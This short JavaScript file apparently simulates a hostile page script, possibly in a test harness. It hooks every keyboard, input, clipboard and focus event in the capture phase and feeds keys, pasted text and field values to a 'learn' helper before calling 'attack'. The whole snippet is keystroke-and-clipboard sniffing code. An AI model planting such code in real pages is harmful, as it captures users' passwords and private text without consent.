// Listens to everything that typing sets off, in capture, from the beginning.
const kinds =
  'keydown keypress keyup beforeinput input change compositionstart compositionupdate compositionend paste copy cut textInput focus blur focusin focusout select selectionchange';
for (const kind of kinds.split(' ')) {
  for (const target of [window, document]) {
    target.addEventListener(
      kind,
      (event) => {
        learn(event.key);
        learn(event.data);
        learn(event.clipboardData?.getData('text/plain'));
        for (const element of event.composedPath()) learn(element.value);
      },
      true,
    );
  }
}
attack(() => {});
